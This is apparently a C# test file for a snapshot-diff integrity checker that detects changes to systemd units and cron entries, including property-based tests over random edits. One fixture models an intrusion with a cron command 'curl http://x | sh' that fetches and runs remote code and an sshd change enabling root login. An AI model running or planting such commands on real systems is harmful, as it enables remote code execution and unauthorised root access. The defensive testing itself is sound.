using FsCheck;
using FsCheck.Fluent;
using Tenantra.Agent.Contracts;
using Tenantra.Core.Integrity;

namespace Tenantra.Core.Tests.Integrity;

public sealed class SnapshotDiffTests
{
    private static readonly HashSet<string> s_volatile = ["pid", "next_run"];

    private static SnapshotEntry Entry(string kind, string key, params (string Name, string? Value)[] fields) =>
        new(kind, key, fields.ToDictionary(f => f.Name, f => f.Value));

    [Fact]
    public void Reports_added_removed_and_modified_entries_with_their_fields()
    {
        SnapshotEntry[] baseline =
        [
            Entry("unit", "cron.service", ("ExecStart", "/usr/sbin/cron -f"), ("pid", "812")),
            Entry("unit", "ssh.service", ("ExecStart", "/usr/sbin/sshd -D")),
            Entry("cron", "/etc/cron.d/backup:1", ("command", "/opt/backup.sh")),
        ];
        SnapshotEntry[] current =
        [
            Entry("cron", "/etc/cron.d/evil:1", ("command", "curl http://x | sh")),
            Entry("unit", "ssh.service", ("ExecStart", "/usr/sbin/sshd -D -o PermitRootLogin=yes")),
            Entry("unit", "cron.service", ("ExecStart", "/usr/sbin/cron -f"), ("pid", "9913")),
        ];

        var changes = SnapshotDiff.Compare(baseline, current, s_volatile);

        Assert.Equal(
        [
            new EntryChange(EntryChangeKind.Added, "cron", "/etc/cron.d/evil:1", [new FieldChange("command", null, "curl http://x | sh")]),
            new EntryChange(EntryChangeKind.Modified, "unit", "ssh.service", [new FieldChange("ExecStart", "/usr/sbin/sshd -D", "/usr/sbin/sshd -D -o PermitRootLogin=yes")]),
            new EntryChange(EntryChangeKind.Removed, "cron", "/etc/cron.d/backup:1", [new FieldChange("command", "/opt/backup.sh", null)]),
        ], changes, new EntryChangeComparer());
    }

    [Fact]
    public void A_field_that_appears_or_goes_is_a_change_and_absent_equals_empty()
    {
        var changes = SnapshotDiff.Compare(
            [Entry("unit", "a", ("User", "root"), ("Group", ""))],
            [Entry("unit", "a", ("Environment", "X=1"))],
            s_volatile);

        var change = Assert.Single(changes);
        Assert.Equal(EntryChangeKind.Modified, change.Change);
        Assert.Equal([new FieldChange("Environment", null, "X=1"), new FieldChange("User", "root", null)], change.Fields.OrderBy(f => f.Name, StringComparer.Ordinal));
    }

    /// <summary>
    /// For random baselines and random edit scripts — add, remove, modify a field, add or drop a
    /// field, change only volatile fields, reorder — the diff is exactly the edits made, whether the
    /// two states come in any order (matched through the table) or in canonical order (walked in step).
    /// Pairs of entries share a key under different kinds.
    /// </summary>
    [Fact]
    public void Random_edit_scripts_come_back_exactly_and_volatile_only_changes_raise_nothing()
    {
        var scripts = from seed in Gen.Choose(0, int.MaxValue)
                      from size in Gen.Choose(0, 300)
                      select (seed, size);
        Prop.ForAll(Arb.From(scripts), script => Check(script.seed, script.size)).QuickCheckThrowOnFailure();
    }

    private static bool Check(int seed, int size)
    {
        var random = new Random(seed);
        string[] names = ["ExecStart", "User", "Path", "command", "pid", "next_run"];
        SnapshotEntry Make(string kind, string key) =>
            Entry(kind, key, [.. names.Where(_ => random.Next(3) > 0).Select(n => (n, (string?)$"{n}-{random.Next(1000)}"))]);
        string[] kinds = ["unit", "cron", "task"];

        var baseline = Enumerable.Range(0, size).Select(i => Make(kinds[i % 3], $"entry-{i / 2}")).ToList();
        var current = new List<SnapshotEntry>();
        var expected = new Dictionary<(string, string), EntryChangeKind>();
        foreach (var entry in baseline)
        {
            switch (random.Next(5))
            {
                case 0: // removed
                    expected[(entry.Kind, entry.Key)] = EntryChangeKind.Removed;
                    break;
                case 1: // a stable field changed (or appears)
                    var fields = new Dictionary<string, string?>(entry.Fields) { ["Path"] = $"changed-{random.Next()}" };
                    current.Add(entry with { Fields = fields });
                    expected[(entry.Kind, entry.Key)] = EntryChangeKind.Modified;
                    break;
                case 2: // only volatile fields changed
                    current.Add(entry with { Fields = new Dictionary<string, string?>(entry.Fields) { ["pid"] = $"{random.Next()}", ["next_run"] = $"{random.Next()}" } });
                    break;
                default: // unchanged
                    current.Add(entry);
                    break;
            }
        }

        for (var i = 0; i < random.Next(0, 20); i++)
        {
            var added = Make(kinds[random.Next(3)], $"new-{i}");
            current.Add(added);
            expected[(added.Kind, added.Key)] = EntryChangeKind.Added;
        }

        var shuffled = current.OrderBy(_ => random.Next()).ToList();
        var byTable = SnapshotDiff.Compare(baseline, shuffled, s_volatile);
        var inStep = SnapshotDiff.Compare(SnapshotContent.InCanonicalOrder(baseline), SnapshotContent.InCanonicalOrder(shuffled), s_volatile);
        return AreExactly(byTable, expected) && AreExactly(inStep, expected)
            && Ordered(byTable).SequenceEqual(Ordered(inStep), new EntryChangeComparer());
    }

    private static bool AreExactly(List<EntryChange> changes, Dictionary<(string, string), EntryChangeKind> expected)
    {
        var got = changes.ToDictionary(c => (c.Kind, c.Key), c => c.Change);
        return got.Count == changes.Count
            && got.OrderBy(g => g.Key).SequenceEqual(expected.OrderBy(e => e.Key))
            && changes.All(c => c.Fields.All(f => !s_volatile.Contains(f.Name)))
            && changes.Where(c => c.Change == EntryChangeKind.Modified).All(c => c.Fields.Any(f => f.Name == "Path"));
    }

    private static IEnumerable<EntryChange> Ordered(List<EntryChange> changes) =>
        changes.OrderBy(c => c.Kind, StringComparer.Ordinal).ThenBy(c => c.Key, StringComparer.Ordinal);

    [Fact]
    public void States_in_canonical_order_keep_the_order_of_changes_removals_last()
    {
        SnapshotEntry[] baseline = [Entry("cron", "a:1", ("command", "x")), Entry("unit", "b.service"), Entry("unit", "d.service")];
        SnapshotEntry[] current = [Entry("cron", "a:1", ("command", "y")), Entry("unit", "c.service"), Entry("unit", "d.service")];

        var changes = SnapshotDiff.Compare(baseline, current, s_volatile);

        Assert.Equal(
            [(EntryChangeKind.Modified, "a:1"), (EntryChangeKind.Added, "c.service"), (EntryChangeKind.Removed, "b.service")],
            changes.Select(c => (c.Change, c.Key)));
    }

    private sealed class EntryChangeComparer : IEqualityComparer<EntryChange>
    {
        public bool Equals(EntryChange? x, EntryChange? y) =>
            x is not null && y is not null && x.Change == y.Change && x.Kind == y.Kind && x.Key == y.Key && x.Fields.SequenceEqual(y.Fields);

        public int GetHashCode(EntryChange obj) => HashCode.Combine(obj.Change, obj.Kind, obj.Key);
    }
}
